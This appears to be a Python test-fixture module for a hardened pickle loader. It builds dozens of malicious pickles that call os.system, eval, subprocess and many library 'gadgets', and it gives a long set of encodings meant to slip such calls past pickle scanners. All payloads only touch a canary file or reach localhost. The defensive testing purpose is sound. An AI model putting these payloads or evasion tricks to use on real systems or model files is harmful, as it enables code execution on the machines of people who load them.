"""Pickles that would run something, were anything in them called."""

from __future__ import annotations

import functools
import os
import pickle
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Call:
    """Pickles as a call of `function`."""

    def __init__(self, function: Callable[..., Any], *args: Any, state: Any = None) -> None:
        self.reduced = (function, args) if state is None else (function, args, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.reduced


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def payloads(canary: Path) -> dict[str, bytes]:
    """Pickles of a dict ``{"a": ...}``, each of which would make the file `canary` if anything in it ran."""
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w')"
    command = text(touch)
    inside = b"\x80\x02}" + text("a")
    return {
        "reduce os.system": pickle.dumps({"a": Call(os.system, touch)}, 2),
        "reduce, protocol 0": pickle.dumps({"a": Call(os.system, touch)}, 0),
        "stack global": pickle.dumps({"a": Call(os.system, touch)}, 4),
        "eval": pickle.dumps({"a": Call(eval, code)}, 2),
        "exec": pickle.dumps({"a": Call(exec, code)}, 5),
        "subprocess": pickle.dumps({"a": Call(subprocess.Popen, ["touch", str(canary)])}, 2),
        "inst": inside + b"(" + command + b"ios\nsystem\ns.",
        "obj": inside + b"(cos\nsystem\n" + command + b"os.",
        "newobj": inside + b"cos\nsystem\n" + command + b"\x85\x81s.",
        "newobj_ex": inside + b"cos\nsystem\n" + command + b"\x85}\x92s.",
        "memoised": inside + b"cos\nsystem\nq\x000h\x00" + command + b"\x85Rs.",
        "in a persistent id": inside + b"cos\nsystem\n" + command + b"\x85RQs.",
        "as a storage": inside
        + b"("
        + text("storage")
        + b"cos\nsystem\n"
        + command
        + text("cpu")
        + b"K\x01tQs.",
        "as a tensor's function": inside
        + b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n"
        + command
        + b"\x85}tRs.",
        "as an array's class": inside
        + b"cnumpy.core.multiarray\n_reconstruct\n(cos\nsystem\nK\x00\x85C\x01btRs.",
        "as a dtype": inside + b"cnumpy\ndtype\ncos\nsystem\n" + command + b"\x85R\x85Rs.",
        "as a factory": inside + b"ccollections\ndefaultdict\ncos\nsystem\n\x85Rs.",
        "getattr": inside + b"c__builtin__\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86Rs.",
        "setstate": pickle.dumps({"a": Call(Call, print, state={"reduced": Call(os.system, touch)})}, 2),
        "as a key": b"\x80\x02}cos\nsystem\n" + command + b"\x85RNs.",
        "as a member": b"\x80\x04\x8f(cos\nsystem\n" + command + b"\x85R\x90.",
        "partial": pickle.dumps({"a": Call(functools.partial, os.system, touch)}, 2),
        "import hook": inside + b"crunpy\n_run_code\n(" + text(code) + b"}tRs.",
    }


def push(value: Any) -> bytes:
    """Opcodes that put `value` on the stack."""
    return pickle.dumps(value, 2)[2:-1]


def call(name: str, *args: Any) -> bytes:
    """Opcodes that call the global ``module:name`` with `args`."""
    module, _, attribute = name.partition(":")
    return f"c{module}\n{attribute}\n".encode() + push(args) + b"R"


def in_a_dict(opcodes: bytes, protocol: int = 2) -> bytes:
    """A pickle of ``{"a": ...}``, in which `opcodes` make the value."""
    return pickle.PROTO + bytes([protocol]) + b"}" + text("a") + opcodes + b"s."


def gadgets(canary: Path) -> dict[str, bytes]:
    """Calls that scanners of pickles took for harmless at some time, as their advisories tell, each in a pickle.

    Lists of what is dangerous lack something: picklescan's and fickling's were passed by one function of Python's, of
    torch's or of NumPy's after another. What is not known to be harmless is refused here, so that no list has to know.
    """
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').close()"
    calls: dict[str, tuple[Any, ...]] = {
        "timeit:timeit": (code,),
        "cProfile:run": (code,),
        "profile:run": (code,),
        "profile:Profile.run": (None, code),
        "bdb:Bdb.run": (None, code),
        "pdb:run": (code,),
        "trace:Trace.run": (None, code),
        "doctest:debug_script": (code,),
        "code:InteractiveInterpreter.runcode": (None, code),
        "codeop:compile_command": (code,),
        "runpy:_run_code": (code, {}),
        "runpy:run_path": (str(canary),),
        "pydoc:pipepager": ("", touch),
        "pydoc:tempfilepager": ("", touch),
        "pydoc:locate": ("os.system",),
        "_pyrepl.pager:pipe_pager": ("", touch),
        "pkgutil:resolve_name": ("os:system",),
        "importlib:import_module": ("os",),
        "importlib:reload": ("os",),
        "importlib.util:find_spec": ("this.s",),
        "importlib.machinery:SourceFileLoader": ("x", str(canary)),
        "zipimport:zipimporter": (str(canary),),
        "builtins:__import__": ("antigravity",),
        "builtins:getattr": ("", "__class__"),
        "builtins:compile": (code, "x", "exec"),
        "builtins:open": (str(canary), "w"),
        "builtins:breakpoint": (),
        "builtins:map": (len, ["a"]),
        "builtins:vars": (),
        "operator:attrgetter": ("system",),
        "operator:methodcaller": ("system", touch),
        "_operator:methodcaller": ("system", touch),
        "functools:reduce": (max, [1, 2]),
        "itertools:starmap": (max, [(1, 2)]),
        "types:FunctionType": (None, {}),
        "types:CodeType": (0, 0),
        "marshal:loads": (b"N",),
        "pickle:loads": (b"N.",),
        "pickle:Unpickler": (None,),
        "_pickle:loads": (b"cos\nsystem\n(V" + touch.encode() + b"\ntR.",),
        "shelve:open": (str(canary),),
        "copyreg:add_extension": ("os", "system", 1),
        "sys:setrecursionlimit": (10,),
        "gc:get_objects": (),
        "os:popen": (touch,),
        "os:execl": ("/bin/sh", "sh", "-c", touch),
        "os:unlink": (str(canary),),
        "posix:system": (touch,),
        "nt:system": (touch,),
        "pty:spawn": (["touch", str(canary)],),
        "subprocess:getoutput": (touch,),
        "_posixsubprocess:fork_exec": (),
        "asyncio.unix_events:_UnixSubprocessTransport._start": ({}, touch, True, None, None, None, 0),
        "multiprocessing.util:spawnv_passfds": (b"/bin/true", [b"true"], []),
        "concurrent.futures.process:_process_worker": (),
        "threading:Thread": (),
        "uuid:_get_command_stdout": ("touch", str(canary)),
        "imaplib:IMAP4_stream": (touch,),
        "_osx_support:_read_output": (touch,),
        "_osx_support:_find_build_tool": (f"x; {touch}",),
        "_aix_support:_read_cmd_output": (touch,),
        "distutils.file_util:write_file": (str(canary), ["x"]),
        "distutils.spawn:spawn": (["touch", str(canary)],),
        "ensurepip:_run_pip": (["--version"],),
        "pip._internal:main": (["--version"],),
        "venv:create": (str(canary),),
        "idlelib.run:Executive.runcode": (None, code),
        "idlelib.pyshell:ModifiedInterpreter.runcommand": (None, code),
        "lib2to3.pgen2.pgen:ParserGenerator.make_label": (None, None, code),
        "code:interact": (),
        "webbrowser:open": ("http://127.0.0.1:9/",),
        "antigravity:geohash": (1.0, 2.0, b""),
        "urllib.request:urlopen": ("http://127.0.0.1:9/",),
        "http.client:HTTPSConnection": ("127.0.0.1",),
        "smtplib:SMTP": ("127.0.0.1", 9),
        "ftplib:FTP": ("127.0.0.1",),
        "ssl:get_server_certificate": (("127.0.0.1", 9),),
        "socket:create_connection": (("127.0.0.1", 9),),
        "logging:FileHandler": (str(canary),),
        "logging.config:listen": (9,),
        "logging.config:fileConfig": (str(canary),),
        "linecache:getline": ("/etc/passwd", 1),
        "io:FileIO": (str(canary), "w"),
        "_io:FileIO": (str(canary), "w"),
        "io:open_code": ("/etc/passwd",),
        "pathlib:Path.write_text": (str(canary), "x"),
        "shutil:copyfile": ("/etc/passwd", str(canary)),
        "shutil:rmtree": (str(canary),),
        "tempfile:NamedTemporaryFile": (),
        "sqlite3:connect": (str(canary),),
        "dbm.dumb:open": (str(canary), "n"),
        "ctypes:CDLL": ("libc.so.6",),
        "ctypes:PyDLL": ("libc.so.6",),
        "signal:raise_signal": (15,),
        "faulthandler:_sigsegv": (),
        "site:addsitedir": (str(canary.parent),),
        "cgitb:lookup": ("x", None, {}),
        "xml.etree.ElementTree:parse": ("/etc/passwd",),
        "numpy:load": (str(canary), None, True),
        "numpy:fromfile": ("/etc/passwd",),
        "numpy.f2py.crackfortran:getlincoef": (code, {}),
        "numpy.f2py.crackfortran:_eval_length": (code, {}),
        "numpy.f2py.crackfortran:param_eval": (code, {}, {}),
        "numpy.testing._private.utils:runstring": (code, {}),
        "numpy.distutils.exec_command:exec_command": (touch,),
        "numpy.ctypeslib:load_library": ("libc.so.6", "/lib"),
        "torch:load": (str(canary), None, None),
        "torch.serialization:load": (str(canary),),
        "torch.jit:load": (str(canary),),
        "torch.hub:load": ("a/b", "c"),
        "torch.hub:download_url_to_file": ("http://127.0.0.1:9/", str(canary)),
        "torch.ops:load_library": ("libc.so.6",),
        "torch._ops:ops.load_library": ("libc.so.6",),
        "torch.classes:load_library": ("libc.so.6",),
        "torch.storage:UntypedStorage.from_file": (str(canary), True, 8),
        "torch:from_file": (str(canary), True, 8),
        "torch:compile": (len,),
        "torch._inductor:codecache": (),
        "torch._dynamo.guards:GuardBuilder.get": (None, code),
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression": (None, code, []),
        "torch.fx.graph_module:_exec_with_source": (code, {}),
        "torch.fx._symbolic_trace:Tracer": (),
        "torch.jit.unsupported_tensor_ops:execWrapper": (code, {}, {}),
        "torch.utils._config_module:ConfigModule.load_config": (None, b"N."),
        "torch.utils.collect_env:run": (touch,),
        "torch.utils.collect_env:run_and_read_all": (None, touch),
        "torch.utils.bottleneck.__main__:run_autograd_prof": (code, {}),
        "torch.utils.bottleneck.__main__:run_cprofile": (code, {}),
        "torch.utils.data.datapipes.utils.decoder:basichandlers": ("pickle", b"N."),
        "torch.utils.cpp_extension:load_inline": ("x", ""),
        "torch.distributed.rpc.internal:_deserialize": (b"N.", []),
        "torch.package:PackageImporter": (str(canary),),
        "torch.multiprocessing.reductions:rebuild_storage_filename": (None, b"x", b"y", 8),
        "torch.cuda._utils:_load_kernel": (),
        "torch._utils:_rebuild_device_tensor_from_numpy": (None, None, "cpu", False),
        "torch._utils:_import_dotted_name": ("os.system",),
        "torch.testing._internal.common_utils:run_command": (touch,),
        "cloudpickle.cloudpickle:_make_function": (None, {}, "f", (), ()),
        "cloudpickle.cloudpickle:_builtin_type": ("CodeType",),
        "dill._dill:_create_code": (),
        "dill:loads": (b"N.",),
        "joblib:load": (str(canary),),
        "joblib._store_backends:StoreBackendMixin.load_item": (None, [str(canary)]),
        "pandas:read_pickle": (str(canary),),
        "pandas.io.common:get_handle": (str(canary), "w"),
        "transformers.utils.import_utils:_LazyModule": ("os", "os", {}),
        "deepspeed.utils.debug:printflock": (),
        "rankload.loader.reading:read": (str(canary),),
        "rankload.launch.children:start": (touch,),
    }
    return {name: in_a_dict(call(name, *args)) for name, args in calls.items()}


def disguised(canary: Path) -> dict[str, bytes]:
    """Ways to write a call so that whoever looks at opcodes, names or files one by one does not see it."""
    touch = f"touch {canary}"
    system = b"cos\nsystem\n"
    args = push((touch,))
    run = system + args + b"R"
    evil = in_a_dict(run)
    return {
        "a name that is put together from the memo": in_a_dict(
            text("os") + b"q\x05" + text("system") + b"q\x06" + b"00h\x05h\x06\x93" + args + b"R", 4
        ),
        "a memo entry that is changed between": in_a_dict(
            text("math")
            + b"q\x050"
            + text("os")
            + b"q\x050"
            + b"h\x05"
            + text("system")
            + b"\x93"
            + args
            + b"R",
            4,
        ),
        "memo entries out of order": in_a_dict(
            text("system")
            + b"r\x10\0\0\0"
            + b"0"
            + text("os")
            + b"q\x01"
            + b"0h\x01j\x10\0\0\0\x93"
            + args
            + b"R",
            4,
        ),
        "a name with dots": in_a_dict(
            text("builtins") + text("__import__.__self__.eval") + b"\x93" + args + b"R", 4
        ),
        "a name below a known one": in_a_dict(
            text("torch") + text("Size.__class__.__base__.__subclasses__") + b"\x93)R", 4
        ),
        "a module below a known one": in_a_dict(
            text("collections.OrderedDict") + text("fromkeys.__func__") + b"\x93)R", 4
        ),
        "a name that is bytes": in_a_dict(b"C\x02osC\x06system\x93" + args + b"R", 4),
        "a name with a line break": in_a_dict(text("os\nsystem\n") + text("x") + b"\x93)R", 4),
        "a name that is a list": in_a_dict(text("os") + b"]\x93)R", 4),
        "an extension's code": in_a_dict(b"\x82\x01" + args + b"R"),
        "an extension's long code": in_a_dict(b"\x84\x01\0\0\0" + args + b"R"),
        "registered first as an extension": in_a_dict(
            call("copyreg:add_extension", "os", "system", 77) + b"0\x82\x4d" + args + b"R"
        ),
        "a persistent id of protocol 0": b"(dS'a'\nPos.system\ns.",
        "a persistent id that is a call": in_a_dict(run + b"Q"),
        "a module as a persistent id": in_a_dict(
            b"(" + text("module") + system + text("x") + text("y") + b"tQ" + args + b"R"
        ),
        "inst, with a mark": b"(dS'a'\n(S'" + touch.encode() + b"'\nios\nsystem\ns.",
        "obj": in_a_dict(b"(" + system + text(touch) + b"o"),
        "newobj of a type": in_a_dict(b"csubprocess\nPopen\n" + push((["touch", str(canary)],)) + b"\x81"),
        "newobj_ex with keywords": in_a_dict(
            b"csubprocess\nPopen\n)" + push({"args": ["touch", str(canary)]}) + b"\x92"
        ),
        "build that calls setattr": in_a_dict(
            b"ctypes\nSimpleNamespace\n)R(N" + push({"__class__": 1, "__dict__": 2}) + b"tb"
        ),
        "build of a class's slots": in_a_dict(
            b"ccollections\nOrderedDict\n(N" + push({"__reduce__": 1}) + b"tb"
        ),
        "build of a function's code": in_a_dict(
            b"ctorch._utils\n_rebuild_tensor_v2\n(N" + push({"__code__": 1}) + b"tb"
        ),
        "build with a state that is called": in_a_dict(b"ccollections\nOrderedDict\n)R" + run + b"b"),
        "a harmless build at the end": in_a_dict(call("smtplib:SMTP", "127.0.0.1", 9) + b"}b"),
        "popped before the end": in_a_dict(run + b"0N"),
        "below a mark that is popped": in_a_dict(b"(" + run + b"1N"),
        "as a key": b"\x80\x02}" + run + b"Ns.",
        "as a member of a set": in_a_dict(b"\x8f(" + run + b"\x90", 4),
        "in a frozenset": in_a_dict(b"(" + run + b"\x91", 4),
        "in a deque's arguments": in_a_dict(b"ccollections\ndeque\n(" + run + b"\x85tR"),
        "as a default factory that is then used": in_a_dict(
            b"ccollections\ndefaultdict\n" + system + b"\x85R" + push({1: 2})[:1] + b"0N" + run + b"0"
        ),
        "as arguments of a known type": in_a_dict(b"ctorch\nSize\n(" + run + b"\x85tR"),
        "as a storage's class": in_a_dict(
            b"(" + text("storage") + system + text("0") + text("cpu") + b"K\x04tQ"
        ),
        "as a storage's key": in_a_dict(
            b"(" + text("storage") + b"ctorch\nFloatStorage\n" + run + text("cpu") + b"K\x04tQ"
        ),
        "as a tensor's hooks": in_a_dict(
            b"ctorch._utils\n_rebuild_tensor_v2\n(("
            + text("storage")
            + b"ctorch\nFloatStorage\n"
            + text("0")
            + text("cpu")
            + b"K\x04tQK\x00K\x04\x85K\x01\x85\x89"
            + run
            + b"tR"
        ),
        "as a parameter's state": in_a_dict(
            b"ctorch._utils\n_rebuild_parameter_with_state\n(NN\x89}" + run + b"tR"
        ),
        "as a tensor subclass": in_a_dict(
            b"ctorch._tensor\n_rebuild_from_type_v2\n(" + system + b"csubprocess\nPopen\n" + args + b"}tR"
        ),
        "as a layout": in_a_dict(b"ctorch.serialization\n_get_layout\n" + push(("torch._inductor",)) + b"R"),
        "as an array of objects": in_a_dict(
            b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tC\x01btR(K\x01(K\x01tcnumpy\ndtype\n(X\x02\0\0\0O8\x89\x88tR(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89]"
            + run
            + b"atb",
            3,
        ),
        "as a scalar of an object": in_a_dict(
            b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(X\x02\0\0\0O8\x89\x88tR"
            + evil_bytes(evil)
            + b"tR",
            3,
        ),
        "a pickle in a pickle": in_a_dict(b"cpickle\nloads\n" + evil_bytes(evil) + b"\x85R", 3),
        "a torch file in a pickle": in_a_dict(
            b"ctorch.storage\n_load_from_bytes\n" + evil_bytes(evil) + b"\x85R", 3
        ),
        "broken after the call": b"\x80\x02}" + text("a") + run + b"s\xff\xfe",
        "cut after the call": b"\x80\x02}" + text("a") + run,
        "before a second pickle": b"\x80\x02N." + evil,
        "in a frame that lies": b"\x80\x04\x95\x01\0\0\0\0\0\0\0}" + text("a") + run + b"s.",
        "under a protocol that is not there": b"\x80\x63" + evil[2:],
        "without a protocol": evil[2:],
    }


def evil_bytes(data: bytes) -> bytes:
    """Opcodes that push `data` as bytes."""
    return b"B" + len(data).to_bytes(4, "little") + data
